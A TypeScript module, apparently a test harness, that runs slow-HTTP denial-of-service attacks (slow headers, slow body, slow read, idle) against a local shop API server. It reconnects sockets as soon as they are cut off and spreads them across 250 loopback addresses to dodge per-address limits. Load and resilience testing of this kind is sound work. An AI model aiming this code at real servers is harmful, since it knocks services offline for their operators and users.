import { connect, type Socket } from 'node:net'

/** Ways to use up a server with few bytes; each opens like this, and then says so much each second. */
interface Way {
  readonly name: string
  readonly opening: string
  readonly drop: string
  /** It never takes what is sent to it. */
  readonly isDeaf: boolean
}

const WAYS: readonly Way[] = [
  { name: 'slow headers', opening: 'GET /api/v1/products HTTP/1.1\r\nHost: shop\r\nX-', drop: 'a', isDeaf: false },
  {
    name: 'slow body',
    opening:
      'POST /api/v1/carts HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{',
    drop: ' ',
    isDeaf: false,
  },
  { name: 'slow read', opening: 'GET /api/v1/products/long HTTP/1.1\r\nHost: shop\r\n\r\n', drop: '', isDeaf: true },
  {
    name: 'slow read of a page',
    opening: 'GET /docs/swagger-ui-bundle.js HTTP/1.1\r\nHost: shop\r\n\r\n',
    drop: '',
    isDeaf: true,
  },
  { name: 'idle', opening: 'GET /api/v1/products HTTP/1.1\r\nHost: shop\r\n\r\n', drop: '', isDeaf: false },
]
/** Of the loopback network, so that no limit per address stands in the way. */
const ADDRESSES = 250
const DROP_EVERY_MS = 1_000
const COME_BACK_MS = 200

export interface Attack {
  /** Connections that are open now, and how often one was cut off. */
  readonly state: () => { readonly open: number; readonly cutOff: number }
  close(): void
}

/** So many hostile connections, a fifth of each way, that come back as soon as they are cut off. */
export function attack(port: number, connections: number): Attack {
  const open = new Map<Socket, Way>()
  let cutOff = 0
  let isOver = false

  const dial = (index: number) => {
    const way = WAYS[index % WAYS.length]
    if (isOver || !way) return
    const localAddress = `127.0.1.${1 + (Math.floor(index / WAYS.length) % ADDRESSES)}`
    const socket = connect({ port, host: '127.0.0.1', localAddress }, () => {
      open.set(socket, way)
      socket.write(way.opening)
      if (way.isDeaf) socket.pause()
      else socket.resume()
    })
    socket.on('error', () => {})
    socket.once('close', () => {
      if (open.delete(socket)) cutOff += 1
      setTimeout(() => dial(index), COME_BACK_MS)
    })
  }
  for (let index = 0; index < connections; index += 1) dial(index)
  const timer = setInterval(() => {
    for (const [socket, { drop }] of open) if (drop !== '') socket.write(drop)
  }, DROP_EVERY_MS)

  return {
    state: () => ({ open: open.size, cutOff }),
    close: () => {
      isOver = true
      clearInterval(timer)
      for (const socket of open.keys()) socket.destroy()
    },
  }
}
